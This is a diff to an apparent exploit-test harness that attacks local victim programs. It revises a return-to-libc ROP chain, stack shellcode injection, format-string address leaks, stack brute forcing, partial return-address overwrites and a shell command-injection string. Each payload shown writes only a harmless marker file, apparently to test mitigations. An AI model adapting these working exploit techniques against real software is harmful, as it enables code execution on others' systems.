@@ -64,24 +64,21 @@ def return_to_library(victim: Victim) -> None:
     library, base = Path(found[0]), victim.base(found[0])
     pop_rdi = base + gadget(library, b"\x5f\xc3")
     system = base + offset(library, "system")
-    slide = [pop_rdi + 1] * 19
+    slide = [pop_rdi + 1] * 18  # returns; `system` is entered with the stack as after a call
     command = b"echo owned >marker"
     victim.talk(chunk(words(*slide, pop_rdi, victim.symbol("last_request"), system), command))
 
 
 def inject_code_on_stack(victim: Victim) -> None:
-    """A jump into the bytes that lie on the stack; where, an attacker knows from a leak."""
-    stack = victim.base("[stack]")
-    marks = b"WHERE-IT-LIES-IN-MEMORY!"
-    victim.talk(chunk(marks))
-    end = int(next(line for line in Path(f"/proc/{victim.number}/maps").read_text().splitlines() if line.endswith("[stack]")).split()[0].partition("-")[2], 16)
-    place = stack + victim.memory(stack, end - stack).rindex(marks)
-    code = b"\x90" * 8 + make_marker()
-    slots = [place] * 24
-    body = bytearray(words(*slots))
-    body += code
-    body[: 24 * 8] = words(*([place + 24 * 8] * 24))
-    victim.talk(chunk(bytes(body)))
+    """Jump into the bytes that lie on the stack; where they lie, the attacker learns while the victim reads them."""
+    marks, before = b"WHERE-IT-LIES-IN-MEMORY!", 24 * 8
+    code = make_marker()
+    with victim.connect() as wire:
+        wire.sendall(chunk(b"\0" * (before + len(code)))[:130] + marks)
+        place = victim.find_on_stack(marks)
+        jumps = words(*[place + before] * (before // 8))
+        wire.sendall(jumps[len(marks) :] + code)
+        victim.drain(wire)
 
 
 def make_marker() -> bytes:
@@ -94,7 +91,9 @@ def make_marker() -> bytes:
         code.extend(register + struct.pack("<i", 49 + position - (len(code) + 7)))
 
     load(b"\x48\x8d\x3d", 0)  # rdi = path
-    code.extend(b"\xbe\xb6\x01\x00\x00" + b"\xb8\x55\x00\x00\x00" + b"\x0f\x05")  # creat(path, 0666)
+    code.extend(
+        b"\xbe\xb6\x01\x00\x00" + b"\xb8\x55\x00\x00\x00" + b"\x0f\x05"
+    )  # creat(path, 0666)
     code.extend(b"\x89\xc7")
     load(b"\x48\x8d\x35", len(path))
     code.extend(b"\xba\x06\x00\x00\x00" + b"\xb8\x01\x00\x00\x00" + b"\x0f\x05")  # write
@@ -124,12 +123,15 @@ def leaked_code_address(victim: Victim) -> bool:
 
 
 def format_pointers(victim: Victim) -> None:
-    victim.talk((b"%p." * 21).ljust(63, b" "))
+    words_on_stack = range(139, 148)
+    victim.talk(b"".join(b"%%%d$p." % number for number in words_on_stack).ljust(63))
 
 
 def printed_code_address(victim: Victim) -> bool:
     base = victim.base(victim.program.name)
-    return any(base <= int(word, 16) < base + (1 << 16) for word in re.findall(rb"0x\w+", victim.received))
+    return any(
+        base <= int(word, 16) < base + (1 << 16) for word in re.findall(rb"0x\w+", victim.received)
+    )
 
 
 # T6
@@ -147,7 +149,7 @@ def brute_force(victim: Victim) -> None:
     known = bytearray(b"A" * 64)
 
     def survives(body: bytes) -> bool:
-        return victim.talk(struct.pack("<H", len(body)) + body, end=False) == b"ok\n"
+        return victim.talk(struct.pack("<H", len(body)) + body) == b"ok\n"
 
     first, length = offset(victim.program, "serve"), size(victim.program, "serve")
     while len(known) < 64 + 16 * 8:
@@ -165,7 +167,7 @@ def brute_force(victim: Victim) -> None:
             if inside < length:
                 base = address - first - inside
                 body = bytes(known[:-8]) + words(base + offset(victim.program, "win"))
-                victim.talk(struct.pack("<H", len(body)) + body, end=False)
+                victim.talk(struct.pack("<H", len(body)) + body)
                 return
 
 
@@ -190,12 +192,12 @@ def set_mapped_flag(victim: Victim) -> None:
 
 
 def low_bytes(victim: Victim) -> None:
-    low = (victim.symbol("win") & 0xFFFF).to_bytes(2, "little")
+    low = (victim.symbol("never_called") & 0xFFFF).to_bytes(2, "little")
     victim.talk(b"a" + struct.pack("<H", 34) + b"A" * 32 + low)
 
 
 def low_half(victim: Victim) -> None:
-    low = (victim.symbol("win") & 0xFFFFFFFF).to_bytes(4, "little")
+    low = (victim.symbol("never_called") & 0xFFFFFFFF).to_bytes(4, "little")
     victim.talk(b"a" + struct.pack("<H", 36) + b"A" * 32 + low)
 
 
@@ -204,7 +206,7 @@ def set_flag(victim: Victim) -> None:
 
 
 def inject_command(victim: Victim) -> None:
-    victim.talk(b"';echo owned >marker;'".ljust(63, b"\0"))
+    victim.talk(b"';echo owned >marker #".ljust(63, b"\0"))
 
 
 ATTACKS = {
@@ -239,7 +241,9 @@ MISSES = {
 
 
 @contextlib.contextmanager
-def attacked(attack: Attack, command: list[str], program: Path, place: Path, variant: int = 0) -> Iterator[Victim]:
+def attacked(
+    attack: Attack, command: list[str], program: Path, place: Path, variant: int = 0
+) -> Iterator[Victim]:
     place.mkdir()
     victim = Victim([*command, str(program), *attack.arguments], program, place, variant)
     try:
